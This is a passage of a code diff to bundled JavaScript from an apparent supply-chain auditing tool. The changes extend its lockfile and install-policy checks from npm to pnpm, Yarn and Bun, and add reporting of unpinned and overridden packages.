-  const isOverruled = overrules(own, said2.scripts);
+  const others = folderSettings(path, manifest2, files, contents);
+  gaps.push(...others.gaps);
+  const said2 = folderPolicy(manifest2, npmrc, others.settings);
+  const overruled = new Set(INSTALLERS.filter((installer) => overrules(own, said2.scripts[installer])));
+  const scripts = INSTALLERS.map(
+    (installer) => [installer, overruled.has(installer) ? "all" : said2.scripts[installer]]
+  );
   const policy = {
     domain: "packages",
     kind: "install-policy",
     folder: path,
     path: (npmrcFile ?? manifestFile)?.path ?? inFolder(path, "package.json"),
-    scripts: isOverruled ? "all" : said2.scripts,
+    scripts: Object.fromEntries(scripts),
     isProject: manifestFile !== void 0,
-    settings: [...said2.settings, ...settingsOf3(own), ...extensionsIn(path, contents)],
+    settings: [
+      ...said2.settings,
+      ...settingsOf4(own),
+      ...hookFiles(path, contents),
+      ...installedPackages(path, contents)
+    ],
     installs: installsOf(own),
     managers: [...new Set(own.flatMap(({ managers }) => managers))],
     lock: countingLock(path, files)
@@ -19295,46 +22035,46 @@ function installFolder({ files, contents }, path, commands2) {
     path,
     manifest: manifest2,
     npmrc,
+    patterns: [...patternsIn(manifest2), ...stringsOf(member(workspace, "packages"))],
+    overridden: overriddenNames(manifest2, workspace),
     policy,
-    outcomeOf: (entry) => isOverruled ? "runs" : said2.outcomeOf(entry),
+    outcomeOf: (installer, entry) => overruled.has(installer) ? "runs" : said2.outcomeOf(installer, entry),
     gaps
   };
 }
-var EXTENSIONS = [".npm-extension.cjs", ".npm-extension.mjs"];
 var MODULES = "node_modules";
 var INSTALLED = `${MODULES}/.package-lock.json`;
 function isInstalledIn(folder, path) {
   const inside = below(inFolder(folder, MODULES), path);
   return inside !== void 0 && /^(?:\.package-lock\.json|\.bin\/[^/]+|(?:@[^/]+\/)?[^/]+\/package\.json)$/.test(inside);
 }
-function extensionsIn(path, contents) {
-  const extensions = EXTENSIONS.map((name) => inFolder(path, name)).filter(contents.isFile);
+function installedPackages(path, contents) {
   const modules = inFolder(path, MODULES);
-  const installed = contents.at(modules) === "" ? [] : [modules];
-  return [...extensions, ...installed].map((place) => {
-    const name = baseName(place);
-    const record = inFolder(path, INSTALLED);
-    const written6 = place === modules && contents.isFile(record) ? record : place;
-    return {
-      name,
-      value: contents.at(place),
+  if (contents.at(modules) === "") return [];
+  const record = inFolder(path, INSTALLED);
+  const written6 = contents.isFile(record) ? record : modules;
+  return [
+    {
+      name: baseName(modules),
+      value: contents.at(modules),
       written: written6,
       from: "file",
       effect: "other",
+      decides: "unknown",
       of: null,
       at: topOf(written6)
-    };
-  });
+    }
+  ];
 }
 function overrules(commands2, scripts) {
   return commands2.some(({ settings: settings2, forces }) => {
     return settings2.some(({ effect }) => effect === "more") || scripts === "approved" && forces;
   });
 }
-function settingsOf3(commands2) {
+function settingsOf4(commands2) {
   const all = commands2.flatMap(({ settings: settings2 }) => settings2);
   const deciding = all.filter(({ effect }) => effect !== "less");
-  return [...new Map(deciding.map((setting10) => [`${setting10.name} ${setting10.value}`, setting10])).values()];
+  return [...new Map(deciding.map((setting12) => [`${setting12.name} ${setting12.value}`, setting12])).values()];
 }
 function installsOf(commands2) {
   const installing = commands2.filter(({ managers }) => managers.length > 0);
@@ -19346,12 +22086,14 @@ function installsOf(commands2) {
 
 // src/readers/npm-lock/lockfiles.ts
 var NPM = NPM_LOCKS;
-var OTHERS = ["pnpm-lock.yaml", "yarn.lock", "bun.lock", "bun.lockb"];
-var LOCKFILES = /* @__PURE__ */ new Set([...NPM, ...OTHERS]);
-var WANTED = /* @__PURE__ */ new Set([...LOCKFILES, "package.json", ".npmrc", ...EXTENSIONS]);
-function isNpmLock(path) {
-  return NPM.includes(baseName(path));
-}
+var OTHERS = {
+  "pnpm-lock.yaml": readPnpmLock,
+  "yarn.lock": readYarnLock,
+  "bun.lock": readBunLock
+};
+var UNREAD = ["bun.lockb", "deno.lock"];
+var LOCKFILES = /* @__PURE__ */ new Set([...NPM, ...Object.keys(OTHERS), ...UNREAD]);
+var WANTED = /* @__PURE__ */ new Set([...LOCKFILES, "package.json", ".npmrc", ...SETTINGS_FILES, ...HOOK_FILES]);
 var STEPS_ASIDE = 6;
 function mayConcern(path, app) {
   const [folder, name] = [folderOf(path), baseName(path)];
@@ -19362,8 +22104,11 @@ function mayConcern(path, app) {
   return aside !== void 0 && !aside.includes("node_modules") && aside.split("/").length <= STEPS_ASIDE;
 }
 function isInstalledFor(project, commands2) {
-  const { npm, folders } = frontendLocks(project, commands2);
-  const archives = new Set(npm.flatMap(archivesIn));
+  const { npm, others, folders } = frontendLocks(project, commands2);
+  const archives = /* @__PURE__ */ new Set([
+    ...npm.flatMap((file2) => archivesIn(readNpmLock(file2).packages.values(), folderOf(file2.path))),
+    ...others.flatMap(({ path, packages }) => archivesIn(packages.values(), folderOf(path)))
+  ]);
   const isOpen4 = commands2.some((command) => command.folders === null);
   return (path) => {
     const name = baseName(path);
@@ -19372,23 +22117,22 @@ function isInstalledFor(project, commands2) {
     return folders.includes(folderOf(path)) || isOpen4 && LOCKFILES.has(name);
   };
 }
-function archivesIn(file2) {
-  return [...readNpmLock(file2).packages.values()].flatMap(
-    ({ source }) => archivePath(source, folderOf(file2.path)) ?? []
-  );
+function archivesIn(sources, folder) {
+  return [...sources].flatMap(({ source }) => archivePath(source, folder) ?? []);
 }
 function archivePath(source, folder) {
   const isHere2 = source.kind === "tarball" && source.url.startsWith("file:");
   return isHere2 ? joined(folder, source.url.slice("file:".length)) : null;
 }
 function frontendLocks(project, commands2) {
-  const named9 = commands2.flatMap((command) => command.folders ?? []);
-  const folders = [...new Set([...startsOf2(project), ...named9].flatMap(withAncestors))];
-  const files = (names2) => folders.flatMap((folder) => names2.flatMap((name) => project.files.get(inFolder(folder, name)) ?? []));
-  return { npm: files(NPM), unread: files(OTHERS), folders };
+  const named10 = commands2.flatMap((command) => command.folders ?? []);
+  const folders = [...new Set([...startsOf3(project), ...named10].flatMap(withAncestors))];
+  const files = (names3) => folders.flatMap((folder) => names3.flatMap((name) => project.files.get(inFolder(folder, name)) ?? []));
+  const others = files(Object.keys(OTHERS)).flatMap((file2) => OTHERS[baseName(file2.path)]?.(file2) ?? []);
+  return { npm: files(NPM), others, unread: files(UNREAD), folders };
 }
-function untoldFolders({ files }, commands2, { npm, unread: unread4 }) {
-  const tied = new Set([...npm, ...unread4].map(({ path }) => path));
+function untoldFolders({ files }, commands2, { npm, others: read9, unread: unread4 }) {
+  const tied = new Set([...npm, ...read9, ...unread4].map(({ path }) => path));
   const others = [...files.values()].filter(({ path }) => LOCKFILES.has(baseName(path)) && !tied.has(path));
   if (others.length === 0) return [];
   const untold = new Map(
@@ -19407,7 +22151,7 @@ var FRONTEND_PATHS = [
   ["beforeDevCommand", "cwd"],
   ["beforeBundleCommand", "cwd"]
 ];
-function startsOf2(project) {
+function startsOf3(project) {
   const { location, config } = project;
   const written6 = PLATFORMS.flatMap((platform) => {
     return FRONTEND_PATHS.flatMap((keys) => asString(pick(config(platform), "build", ...keys)) ?? []);
@@ -19422,9 +22166,9 @@ function startsOf2(project) {
 
 // src/readers/npm-lock/files.ts
 var LOCKFILE2 = /(?:^|\/)(?:package-lock\.json|npm-shrinkwrap\.json|pnpm-lock\.yaml|yarn\.lock|bun\.lockb?)$/;
-var MANIFEST = /^(?!.*(?:^|\/)node_modules\/)(?:.*\/)?package\.json$/;
-var SETTINGS3 = /^(?!.*(?:^|\/)node_modules\/)(?:.*\/)?(?:\.npmrc|\.npm-extension\.[cm]js)$/;
-var ARCHIVE = /\.(?:tgz|tar\.gz)$/;
+var MANIFEST2 = /^(?!.*(?:^|\/)node_modules\/)(?:.*\/)?package\.json$/;
+var SETTINGS3 = /^(?!.*(?:^|\/)node_modules\/)(?:.*\/)?(?:\.npmrc|\.npm-extension\.[cm]js|\.?pnpmfile\.[cm]?js|pnpm-workspace\.yaml|\.yarnrc\.yml|bunfig\.toml)$/;
+var ARCHIVE2 = /\.(?:tgz|tar\.gz)$/;
 var FILES4 = [
   {
     name: "a lockfile",
@@ -19444,15 +22188,22 @@ var FILES4 = [
     why: "Read for packages, approvals, and configurations that its scripts pass to Tauri. What scripts run isn't judged yet.",
     samples: ["package.json"],
     knownAs: ["package.json"],
-    is: byPath(MANIFEST),
-    wants: (path, app) => MANIFEST.test(path) && mayConcern(path, app)
+    is: byPath(MANIFEST2),
+    wants: (path, app) => MANIFEST2.test(path) && mayConcern(path, app)
   },
   {
-    name: "settings of npm",
+    name: "settings of npm, pnpm, Yarn or Bun",
     role: "settings",
     coverage: "read",
     why: "Read whole: what decides which code runs when packages are installed, and where they come from.",
-    samples: [".npmrc", ".npm-extension.cjs"],
+    samples: [
+      ".npmrc",
+      ".npm-extension.cjs",
+      ".pnpmfile.cjs",
+      "pnpm-workspace.yaml",
+      ".yarnrc.yml",
+      "bunfig.toml"
+    ],
     knownAs: [".npmrc"],
     is: byPath(SETTINGS3),
     wants: (path, app) => SETTINGS3.test(path) && mayConcern(path, app)
@@ -19464,32 +22215,202 @@ var FILES4 = [
     why: "If a lockfile names it, new content is a new package.",
     samples: ["vendor/notes-1.0.0.tgz"],
     knownAs: [],
-    isBinary: (path) => ARCHIVE.test(path),
-    is: byPath(ARCHIVE),
+    isBinary: (path) => ARCHIVE2.test(path),
+    is: byPath(ARCHIVE2),
     // Lockfiles name those that count.
     wants: () => false
   }
 ];
 
-// src/readers/npm-lock/requirement.ts
+// src/readers/npm-lock/locked-grants.ts
 var import_satisfies = __toESM(require_satisfies(), 1);
-var import_valid3 = __toESM(require_valid2(), 1);
-var LONGEST4 = 500;
-function isAnsweredBy(text2, locked, asked2) {
-  if (text2.length > LONGEST4) return false;
-  const written6 = text2.trim();
+var import_valid4 = __toESM(require_valid2(), 1);
+
+// src/readers/npm-lock/unpinned.ts
+function unpinnedPackages(folders, locks, project) {
+  const pinned2 = new Set([...locks.npm, ...locks.others].map(({ path }) => folderOf(path)));
+  return folders.filter(({ path }) => !withAncestors(path).some((folder) => pinned2.has(folder))).flatMap((folder) => [folder.manifest, ...workspaceManifests(folder, project)]).flatMap(
+    (manifest2) => requirementsOf(manifest2, false).filter(({ kind, text: text3 }) => kind !== "optional peer" && !isOfWorkspace(text3)).map(({ name, text: text3, at: at2 }) => ({
+      domain: "packages",
+      kind: "unpinned-package",
+      ecosystem: "npm",
+      name,
+      wanted: `${name}@${text3}`,
+      from: sourceOf4(text3),
+      lock: null,
+      at: at2
+    }))
+  );
+}
+function workspaceManifests(folder, project) {
+  return workspacesOf(folder, project).flatMap(({ folder: workspace }) => {
+    const file2 = project.files.get(inFolder(inFolder(folder.path, workspace), "package.json"));
+    const parsed7 = file2 && parseFile(file2);
+    return parsed7?.ok ? [parsed7.value] : [];
+  });
+}
+function isOfWorkspace(text3) {
+  return text3.startsWith("workspace:");
+}
+function sourceOf4(text3) {
+  return /[:/]/.test(text3) ? code(text3) : "the registry";
+}
+
+// src/readers/npm-lock/locked-grants.ts
+function lockedGrants(lock, folder, project) {
+  const manifests = manifestsFor(lock, folder, project);
+  return {
+    grants: [...pinnedPackages(lock, manifests, folder, project), ...unpinnedBeside(lock, manifests, folder)],
+    gaps: lock.gaps
+  };
+}
+function manifestsFor(lock, folder, project) {
+  const found9 = /* @__PURE__ */ new Map();
+  if (folder.manifest !== void 0) found9.set("", folder.manifest);
+  const workspaces = workspacesOf(folder, project).map((each) => each.folder);
+  for (const place of /* @__PURE__ */ new Set([...lock.projects.keys(), ...workspaces])) {
+    const path = joined(folder.path, inFolder(place, "package.json"));
+    const file2 = path === null || place === "" ? void 0 : project.files.get(path);
+    const parsed7 = file2 && parseFile(file2);
+    if (parsed7?.ok) found9.set(place, parsed7.value);
+  }
+  return found9;
+}
+function pinnedPackages(lock, manifests, folder, project) {
+  const wayTo2 = shortestPaths({
+    roots: rootsOf3(lock, folder, project, manifests),
+    next: (node) => neededBy(node, lock, manifests),
+    nameOf: (key) => lock.packages.get(key)?.name ?? key
+  });
+  return [...lock.packages].flatMap(([key, each]) => {
+    if (each.target !== null || lock.manager === "cargo") return [];
+    const grant = grantOf(key, each, lock, lock.manager, folder, project, wayTo2(key));
+    return aliasesOf(each).map((alias) => ({ ...grant, alias }));
+  });
+}
+var PROJECT = "project ";
+function rootsOf3(lock, { path }, { location }, manifests) {
+  const projects = [.../* @__PURE__ */ new Set([...lock.projects.keys(), ...manifests.keys()])];
+  const ofApp2 = projects.filter((each) => {
+    const place = joined(path, each);
+    return place !== null && (place === folderOf(location.root) || place === location.root);
+  });
+  return [ofApp2, projects].map((group2) => group2.map((each) => `${PROJECT}${each}`));
+}
+function neededBy(node, lock, manifests) {
+  if (!node.startsWith(PROJECT)) return lock.packages.get(node)?.needs ?? [];
+  const place = node.slice(PROJECT.length);
+  const recorded = lock.projects.get(place);
+  if (recorded !== void 0) return recorded;
+  return requirementsOf(manifests.get(place), false).flatMap(
+    ({ name, text: text3 }) => lock.answerTo(place, name, text3) ?? []
+  );
+}
+function aliasesOf({ name, names: names3 }) {
+  const others = names3.filter((each) => each !== name);
+  return others.length === 0 || names3.includes(name) ? [null, ...others] : others;
+}
+function grantOf(key, each, lock, installer, folder, project, path) {
+  const { name, version, source, scope, at: at2, lines: lines2 } = each;
+  return {
+    domain: "packages",
+    kind: "package",
+    ecosystem: "npm",
+    manager: installer,
+    name,
+    version,
+    source,
+    checksum: each.integrity ?? archiveHere(each, folder, project),
+    ...whatRuns(each, installer, folder),
+    folderInArchive: "",
+    links: null,
+    alias: null,
+    declared: null,
+    listing: null,
+    scope,
+    needs: needsOf(key, lock),
+    path,
+    at: at2,
+    lines: lines2
+  };
+}
+function needsOf(key, { packages }) {
+  const needed = packages.get(key)?.needs.flatMap((need) => packages.get(need) ?? []) ?? [];
+  return [...new Set(needed.map(({ name, version }) => `${name} ${version}`))];
+}
+function archiveHere({ source }, { path }, { contents }) {
+  const place = archivePath(source, path);
+  const content = place === null ? "" : contents.at(place);
+  return content === "" ? null : `content-${content}`;
+}
+var UNSEEN = "its archive isn't looked at, since Toril asks no address that a lockfile names; look at its scripts";
+function whatRuns(each, installer, folder) {
+  const { name, version, source, integrity, hasInstallScript, isArchiveHash } = each;
+  const outcome2 = folder.outcomeOf(installer, each);
+  if (hasInstallScript !== null)
+    return { asks: null, steps: hasInstallScript ? ["install-script"] : [], unknown: null, outcome: outcome2 };
+  if (outcome2 !== "runs") return { asks: null, steps: null, unknown: null, outcome: outcome2 };
+  const pin = isArchiveHash ? integrity : "";
+  if (!isOwnRegistry(source) || pin === null) return { asks: null, steps: null, unknown: UNSEEN, outcome: outcome2 };
+  const asks = { kind: "npm package", name, version, integrity: pin, risk: "known name" };
+  return { asks, steps: [], unknown: NOT_ASKED, outcome: outcome2 };
+}
+function unpinnedBeside(lock, manifests, folder) {
+  const here = new Set([...manifests.values()].flatMap((each) => asString(member(each, "name")) ?? []));
+  return [...manifests].flatMap(
+    ([place, manifest2]) => requirementsOf(manifest2, false).filter(({ kind, name, text: text3 }) => {
+      const isSettled = here.has(name) || folder.overridden.has(name) || isAnswered(lock, place, name, text3);
+      return (kind === "needed" || kind === "optional") && !isSettled;
+    }).map(({ name, text: text3, at: at2 }) => ({
+      domain: "packages",
+      kind: "unpinned-package",
+      ecosystem: "npm",
+      name,
+      wanted: `${name}@${text3}`,
+      from: sourceOf4(text3),
+      lock: { path: lock.path, has: whatLockHas2(name, lock) },
+      at: at2
+    }))
+  );
+}
+function isAnswered(lock, place, name, text3) {
+  const key = lock.answerTo(place, name, text3);
+  if (key !== void 0) return key === null || isNamed2(lock.packages.get(key), name, text3);
+  if (text3.length > LONGEST7 || (0, import_valid4.default)(text3, { loose: true }) === null) return false;
+  return [...lock.packages.values()].some(
+    (each) => each.name === name && isOwnRegistry(each.source) && (0, import_satisfies.default)(each.version, text3, { loose: true })
+  );
+}
+function isNamed2(found9, name, text3) {
+  const isAlias2 = /^(?:npm|catalog|workspace|patch):/.test(text3) || /[:/]/.test(text3);
+  return found9 !== void 0 && (found9.name === name || isAlias2);
+}
+var LONGEST7 = 500;
+function whatLockHas2(name, { packages }) {
+  const held2 = [...packages.values()].filter((each) => each.name === name || each.names.includes(name));
+  if (held2.length === 0) return "doesn't have it";
+  return `has ${held2.map((each) => code(`${each.name} ${each.version}`)).join(" and ")}`;
+}
+
+// src/readers/npm-lock/requirement.ts
+var import_satisfies2 = __toESM(require_satisfies(), 1);
+var import_valid5 = __toESM(require_valid2(), 1);
+var LONGEST8 = 500;
+function isAnsweredBy(text3, locked, asked3) {
+  if (text3.length > LONGEST8) return false;
+  const written6 = text3.trim();
   const [, aliased] = /^npm:(.+)$/i.exec(written6) ?? [];
   if (aliased !== void 0) return isAlias(aliased, locked);
-  if ((0, import_valid3.default)(written6, { loose: true }) !== null) return isInRange(written6, locked);
-  if (/^https?:/i.test(written6) && !GITHUB.test(written6))
+  if ((0, import_valid5.default)(written6, { loose: true }) !== null) return isInRange(written6, locked);
+  if (/^https?:/i.test(written6) && !GITHUB2.test(written6))
     return isSameSource(locked.source, npmSource({ ...NOWHERE2, resolved: written6 }));
-  if (/^(?:file:|\.{0,2}\/|~\/)/i.test(written6)) return isFile(written6.replace(/^file:/i, ""), locked, asked2);
+  if (/^(?:file:|\.{0,2}\/|~\/)/i.test(written6)) return isFile(written6.replace(/^file:/i, ""), locked, asked3);
   return isOfRepository(written6, locked);
 }
 var NOWHERE2 = { name: "", version: "", local: false };
 function isInRange(range, { name, location, version, target }) {
   const isOwnName = target !== null || !isInstalledAs(location) || isInstalledAs(location) === name;
-  return isOwnName && (range === "" || range === "*" || (0, import_satisfies.default)(version, range, { loose: true }));
+  return isOwnName && (range === "" || range === "*" || (0, import_satisfies2.default)(version, range, { loose: true }));
 }
 function isInstalledAs(location) {
   const marker = "node_modules/";
@@ -19498,8 +22419,8 @@ function isInstalledAs(location) {
 function isAlias(aliased, locked) {
   const at2 = aliased.indexOf("@", 1);
   const [name, range] = at2 < 0 ? [aliased, "*"] : [aliased.slice(0, at2), aliased.slice(at2 + 1)];
-  const isRange = (0, import_valid3.default)(range, { loose: true }) !== null;
-  return locked.name === name && isRange && (range === "*" || (0, import_satisfies.default)(locked.version, range, { loose: true }));
+  const isRange = (0, import_valid5.default)(range, { loose: true }) !== null;
+  return locked.name === name && isRange && (range === "*" || (0, import_satisfies2.default)(locked.version, range, { loose: true }));
 }
 function isFile(path, locked, { from, lockFolder }) {
   const wanted = joined(from, path);
@@ -19508,10 +22429,10 @@ function isFile(path, locked, { from, lockFolder }) {
   if (archive !== null) return archive === wanted;
   return joined(lockFolder, locked.target ?? locked.location) === wanted;
 }
-var GITHUB = /^(?:github:|(?:(?:git\+)?(?:ssh|https):\/\/|git:\/\/)?(?:git@)?github\.com[/:])?([\w.-]+\/[\w.-]+?)(?:\.git)?(?:#(.*))?$/;
-function isOfRepository(text2, { source }) {
-  const [, shorthand, ref] = GITHUB.exec(text2) ?? [];
-  const address = shorthand === void 0 ? text2 : `git+https://github.com/${shorthand}${ref ? `#${ref}` : ""}`;
+var GITHUB2 = /^(?:github:|(?:(?:git\+)?(?:ssh|https):\/\/|git:\/\/)?(?:git@)?github\.com[/:])?([\w.-]+\/[\w.-]+?)(?:\.git)?(?:#(.*))?$/;
+function isOfRepository(text3, { source }) {
+  const [, shorthand, ref] = GITHUB2.exec(text3) ?? [];
+  const address = shorthand === void 0 ? text3 : `git+https://github.com/${shorthand}${ref ? `#${ref}` : ""}`;
   const wanted = npmSource({ ...NOWHERE2, resolved: address });
   if (wanted.kind !== "git" || source.kind !== "git" || source.url !== wanted.url) return false;
   const { commit } = wanted;
@@ -19521,28 +22442,28 @@ function askedFrom(location, lockPath) {
   const lockFolder = folderOf(lockPath);
   return { from: joined(lockFolder, location) ?? lockFolder, lockFolder };
 }
-function isMoving(text2) {
-  const written6 = text2.trim();
-  if ((0, import_valid3.default)(written6, { loose: true }) !== null || /^(?:npm|file|https?):/i.test(written6)) return false;
+function isMoving(text3) {
+  const written6 = text3.trim();
+  if ((0, import_valid5.default)(written6, { loose: true }) !== null || /^(?:npm|file|https?):/i.test(written6)) return false;
   return !/#[0-9a-f]{40,64}$/i.test(written6);
 }
 
 // src/readers/npm-lock/overrides.ts
 function overridesIn(manifest2) {
-  const own = new Map(requirementsOf(manifest2, false).map(({ name, text: text2 }) => [name, text2]));
-  const read7 = (table2, within4) => {
+  const own = new Map(requirementsOf(manifest2, false).map(({ name, text: text3 }) => [name, text3]));
+  const read9 = (table2, within4) => {
     if (table2?.kind !== "object") return [];
     return [...table2.entries].flatMap(([key, { value }]) => {
-      const { name, range } = keyOf2(key === "." ? within4.at(-1) ?? "" : key);
-      const text2 = asString(value);
-      if (text2 === void 0) return read7(value, [...within4, key]);
-      const meant = text2.startsWith("$") ? own.get(text2.slice(1)) ?? text2 : text2;
+      const { name, range } = keyOf4(key === "." ? within4.at(-1) ?? "" : key);
+      const text3 = asString(value);
+      if (text3 === void 0) return read9(value, [...within4, key]);
+      const meant = text3.startsWith("$") ? own.get(text3.slice(1)) ?? text3 : text3;
       return [{ within: key === "." ? within4.slice(0, -1) : within4, name, range, text: meant, at: value.at }];
     });
   };
-  return read7(member(manifest2, "overrides"), []);
+  return read9(member(manifest2, "overrides"), []);
 }
-function keyOf2(key) {
+function keyOf4(key) {
   const at2 = key.indexOf("@", 1);
   return at2 < 0 ? { name: key, range: "" } : { name: key.slice(0, at2), range: key.slice(at2 + 1) };
 }
@@ -19551,13 +22472,13 @@ function unmetOverrides(lock, overrides) {
     const other = packagesBelow(lock, override.within).find((each) => !isMet(lock, override, each));
     if (other === void 0) return [];
     const message = `${code(`overrides`)} asks for ${code(`${override.name}@${override.text}`)}, and the lockfile holds ${code(`${other.name} ${other.version}`)}: installing may take what nothing pins. Commit the lockfile that npm writes.`;
-    const { within: within4, name, range, text: text2 } = override;
+    const { within: within4, name, range, text: text3 } = override;
     const rests = wordsOf(
       "npm override",
       within4,
       name,
       range,
-      text2,
+      text3,
       other.name,
       other.version,
       sourceText(other.source)
@@ -19565,10 +22486,10 @@ function unmetOverrides(lock, overrides) {
     return [gapAt(override.at, { kind: "not-checked", rests, message })];
   });
 }
-function isMet(lock, { name, range, text: text2 }, locked) {
-  if (locked.target !== null || nameOf5(locked) !== name || text2 === "*") return true;
-  const asked2 = askedFrom("", lock.path);
-  return isAnsweredBy(text2, locked, asked2) || range !== "" && !isAnsweredBy(range, locked, asked2);
+function isMet(lock, { name, range, text: text3 }, locked) {
+  if (locked.target !== null || nameOf5(locked) !== name || text3 === "*") return true;
+  const asked3 = askedFrom("", lock.path);
+  return isAnsweredBy(text3, locked, asked3) || range !== "" && !isAnsweredBy(range, locked, asked3);
 }
 function nameOf5({ location }) {
   return location.slice(location.lastIndexOf("node_modules/") + "node_modules/".length);
@@ -19578,30 +22499,30 @@ function packagesBelow(lock, within4) {
     ({ location, source }) => location.includes("node_modules/") && source.kind !== "bundled"
   );
   return within4.reduce((below6, key) => {
-    const { name, range } = keyOf2(key);
-    const asked2 = askedFrom("", lock.path);
+    const { name, range } = keyOf4(key);
+    const asked3 = askedFrom("", lock.path);
     const tops = below6.filter(
-      (each) => nameOf5(each) === name && (range === "" || isAnsweredBy(range, each, asked2))
+      (each) => nameOf5(each) === name && (range === "" || isAnsweredBy(range, each, asked3))
     );
     return reachedFrom(lock, tops);
   }, all);
 }
 function reachedFrom(lock, tops) {
-  const reached2 = /* @__PURE__ */ new Set();
+  const reached3 = /* @__PURE__ */ new Set();
   const queue = [...tops];
   for (const each of queue) {
     for (const { name } of each.requirements) {
       const found9 = resolveFrom(lock.packages, each.location, name);
-      if (found9 === void 0 || reached2.has(found9)) continue;
-      reached2.add(found9);
+      if (found9 === void 0 || reached3.has(found9)) continue;
+      reached3.add(found9);
       queue.push(found9);
     }
   }
-  return [...reached2];
+  return [...reached3];
 }
 
 // src/readers/npm-lock/manifest-gaps.ts
-function manifestGaps(lock, folder, project) {
+function unlockedPackages(lock, folder, project) {
   const overrides = overridesIn(folder.manifest);
   const manifests = manifestsOf3(lock, folder, project);
   const asking = [...lock.packages.values()].map((entry) => {
@@ -19609,15 +22530,15 @@ function manifestGaps(lock, folder, project) {
     const requirements = manifest2 === void 0 ? ownRequirements(entry) : requirementsOf(manifest2, false);
     return { entry, location: entry.location, requirements };
   });
-  const unmet = asking.flatMap((each) => {
+  const grants = asking.flatMap((each) => {
     return each.requirements.flatMap((requirement) => unmetBy(lock, each, requirement, overrides) ?? []);
   });
-  return [
-    ...unmet,
+  const gaps = [
     ...unmetOverrides(lock, overrides),
     ...newWorkspaces(lock, folder, project),
     ...newBundles(lock, folder)
   ];
+  return { grants, gaps };
 }
 function manifestsOf3(lock, folder, { files }) {
   const found9 = /* @__PURE__ */ new Map();
@@ -19632,11 +22553,11 @@ function manifestsOf3(lock, folder, { files }) {
   return found9;
 }
 function newBundles(lock, { manifest: manifest2 }) {
-  const known6 = lock.packages.get("")?.bundles ?? [];
+  const known7 = lock.packages.get("")?.bundles ?? [];
   return ["bundleDependencies", "bundledDependencies"].flatMap((field2) => {
     const value = member(manifest2, field2);
-    const names2 = stringsOf(value).map((each) => each.value);
-    const isNew2 = asBoolean(value) === true ? known6 !== "all" : names2.some((name) => !known6.includes(name));
+    const names3 = stringsOf(value).map((each) => each.value);
+    const isNew2 = asBoolean(value) === true ? known7 !== "all" : names3.some((name) => !known7.includes(name));
     if (value === void 0 || !isNew2) return [];
     const message = `${code(field2)} isn't in ${code(baseName(lock.path))}: npm fetches what such packages bring along, pinned by nothing. Commit the lockfile that npm writes.`;
     return [
@@ -19647,88 +22568,88 @@ function newBundles(lock, { manifest: manifest2 }) {
 function ownRequirements({ source, requirements }) {
   return source.kind === "bundled" ? [] : requirements.filter(({ kind }) => kind === "needed");
 }
-function unmetBy(lock, { entry, location }, { name, text: text2, kind, at: at2 }, overrides) {
+function unmetBy(lock, { entry, location }, { name, text: text3, kind, at: at2 }, overrides) {
   const found9 = resolveFrom(lock.packages, location, name);
-  const isRecorded = entry?.requirements.some((each) => each.name === name && each.text === text2) === true;
+  const isRecorded = entry?.requirements.some((each) => each.name === name && each.text === text3) === true || found9 !== void 0 && isTakenFor(lock, location, text3, found9);
   if (found9 === void 0 && (kind === "optional peer" || kind === "optional" && isRecorded))
     return void 0;
   if (found9 !== void 0) {
-    const asked2 = askedFrom(location, lock.path);
-    const texts = [text2, ...overrides.filter((each) => each.name === name).map((each) => each.text)];
-    if (texts.some((each) => isAnsweredBy(each, found9, asked2) && (isRecorded || !isMoving(each))))
+    const asked3 = askedFrom(location, lock.path);
+    const texts = [text3, ...overrides.filter((each) => each.name === name).map((each) => each.text)];
+    if (texts.some((each) => isAnsweredBy(each, found9, asked3) && (isRecorded || !isMoving(each))))
       return void 0;
-    if (isRecorded && isMoving(text2)) return void 0;
+    if (isRecorded && isMoving(text3)) return void 0;
   }
-  const held2 = found9 === void 0 ? "isn't in" : `is ${code(`${found9.name} ${found9.version}`)} in`;
-  const message = `${whoAsks(location, entry)} asks for ${code(`${name}@${text2}`)}, which ${held2} ${code(baseName(lock.path))}: installing may take what nothing pins. Commit the lockfile that npm writes.`;
-  const rests = wordsOf(
-    "npm requirement",
-    entry?.name,
+  const has4 = found9 === void 0 ? "doesn't have it" : `has ${code(`${found9.name} ${found9.version}`)}`;
+  return {
+    domain: "packages",
+    kind: "unpinned-package",
+    ecosystem: "npm",
     name,
-    text2,
-    found9 && [found9.name, found9.version, sourceText(found9.source)]
-  );
-  return gapAt(at2, { kind: "not-checked", rests, message });
+    wanted: `${name}@${text3}`,
+    from: sourceOf4(text3),
+    lock: { path: lock.path, has: has4 },
+    at: at2
+  };
 }
-function whoAsks(location, entry) {
-  if (isInstalled(location)) return code(`${entry?.name} ${entry?.version}`);
-  return code(inFolder(location, "package.json"));
+function isTakenFor(lock, location, text3, found9) {
+  if (lock.version !== 1 || isInstalled(location)) return false;
+  const isTag = /^[\w.-]*$/.test(text3.trim());
+  return isAnsweredBy(text3, found9, askedFrom(location, lock.path)) || isTag && found9.source.kind === "registry";
 }
 
 // src/readers/npm-lock/needs.ts
 function neededArchives(base, head) {
-  const before2 = base === null ? [] : installedBy(base);
+  const before2 = packagesIn2(base);
   const inBase = new Set(before2.map(identityOf3));
-  const known6 = Map.groupBy(before2, ({ each }) => each.name);
-  const added = installedBy(head).filter((locked) => !inBase.has(identityOf3(locked)));
-  return added.flatMap((locked) => {
-    const old = known6.get(locked.each.name) ?? [];
-    const need = needOf2(locked, old.length === 0 ? "new name" : "known name");
+  const known7 = Map.groupBy(before2, ({ name }) => name);
+  const added = packagesIn2(head).filter((each) => !inBase.has(identityOf3(each)));
+  return added.flatMap((each) => {
+    const old = known7.get(each.name) ?? [];
+    const need = needOf2(each, old.length === 0 ? "new name" : "known name");
     return need === void 0 ? [] : [need, ...old.flatMap((other) => needOf2(other, "before") ?? [])];
   });
 }
-function installedBy({ files }) {
-  const locks = [...files.values()].filter(({ path }) => isNpmLock(path)).map(readNpmLock);
-  return locks.flatMap(
-    ({ packages }) => [...packages.values()].map((each) => ({ each, archive: archiveOf(packages, each) }))
-  );
+function packagesIn2(grants) {
+  return grants.filter((grant) => grant.domain === "packages" && grant.kind === "package");
 }
-function identityOf3({ each: { name, version, source, integrity } }) {
-  return JSON.stringify([name, version, sourceText(source), integrity]);
+function identityOf3({ name, version, source, checksum }) {
+  return JSON.stringify([name, version, sourceText(source), checksum]);
 }
-function needOf2({ each, archive }, risk) {
-  return each.hasInstallScript || archive === void 0 ? void 0 : archiveNeed(archive, risk);
+function needOf2({ asks }, risk) {
+  return asks?.kind === "npm package" ? { ...asks, risk } : void 0;
 }
-function archiveNeed({ name, version, source, integrity, target }, risk = "known name") {
